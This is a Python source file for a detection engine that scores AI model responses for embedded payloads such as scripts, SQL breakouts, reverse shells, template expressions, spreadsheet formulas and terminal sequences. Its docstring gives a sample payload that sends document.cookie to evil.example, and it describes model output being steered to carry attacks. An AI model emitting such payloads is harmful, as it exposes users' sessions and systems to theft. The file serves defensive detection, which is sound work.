"""Payloads in a response that attack whoever shows, runs or opens it.

Finds scripts, event handlers and `javascript:` addresses for browsers, SQL that breaks out of a
statement, shell lines that fetch and run, destroy or open a reverse shell, expressions that a
template engine evaluates, formulas that a spreadsheet executes and control sequences for terminals.
Code that the user asked for, or that stands in a code block, is an answer and scores lower; a code
block is no shelter from a terminal or a spreadsheet.

Why it matters: what a model says lands in pages, queries, terminals and files; whoever can put
words in its mouth reaches them, unless the response is treated as untrusted input.

Flags: {"response": "Here is your summary <img src=x onerror=\\"fetch('//evil.example/'+document.cookie)\\">"}
Passes: {"response": "Escape the angle brackets, and a visitor's script is shown instead of run."}

Source: OWASP LLM05:2025 Improper Output Handling; CWE-79, CWE-89, CWE-78, CWE-1236, CWE-150.
"""  # noqa: E501

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from dataclasses import replace

from core.analysis import EngineResult, Finding, Span
from engines.base import PatternEngine
from engines.document import Document
from engines.normaliser import View
from engines.output_payloads import RULES

_ASKED = re.compile(
    r"\b(?:code|script|javascript|html|css|svg|page|website|web app|button|form|sql|query|queries"
    r"|database|table|bash|shell|command|terminal|powershell|one-?liner|install|python|php|node"
    r"|jinja|template|handlebars|vue|angular|react|formula|excel|spreadsheet|csv|sheets?|cell"
    r"|function|program|regex|snippet|example|payload|xss|injection|exploit|pentest\w*|ansi"
    r"|colou?rs?)s?\b"
)
_FENCED = re.compile(
    r"(?m:^)[ \t>]{0,8}(`{3,10}|~{3,10})[^\n]{0,200}\n(?:.*?\n)??[ \t>]{0,8}\1|`[^`\n]{1,300}`",
    re.DOTALL,
)
_HOSTILE = frozenset(
    {
        "hostile_script",
        "hostile_handler",
        "reverse_shell",
        "executing_formula",
        "clipboard_sequence",
    }
)
"""Nobody asks for these by asking for code."""
_SHELTERLESS = frozenset(
    {"formula", "executing_formula", "terminal_sequence", "clipboard_sequence"}
)
_IN_FENCE = 0.45
_ASKED_FOR = 0.4
_BOTH = 0.2


class OutputInjection(PatternEngine):
    name = "output_injection"
    version = "1.0.0"
    category = "unsafe_output"
    inputs = ("response",)
    rules = RULES

    def examine(self, document: Document) -> EngineResult:
        found = [
            finding
            for view in document.unfold("response").views
            if not view.layers
            for finding in self.scan(view)
        ]
        if not found:
            return self.found(())
        asked = bool(_ASKED.search(_asked(document)))
        fenced = _fences(document.original("response"))
        return self.found(_weighed(finding, asked, fenced) for finding in found)


def _asked(document: Document) -> str:
    """What the user wrote last, in lower case."""
    return document.content.text.lower()[-20_000:]


def _fences(view: View) -> Sequence[Span]:
    return [match.span() for match in _FENCED.finditer(view.text)]


def _weighed(finding: Finding, asked: bool, fenced: Iterable[Span]) -> Finding:
    """The finding with the score that its place and the request leave it."""
    start, end = finding.spans[0]
    inside = finding.label not in _SHELTERLESS and any(
        first <= start and end <= last for first, last in fenced
    )
    wanted = asked and finding.label not in _HOSTILE
    if inside:
        most = _BOTH if asked else _IN_FENCE
    elif wanted:
        most = _ASKED_FOR
    else:
        return finding
    return replace(finding, score=min(finding.score, most))
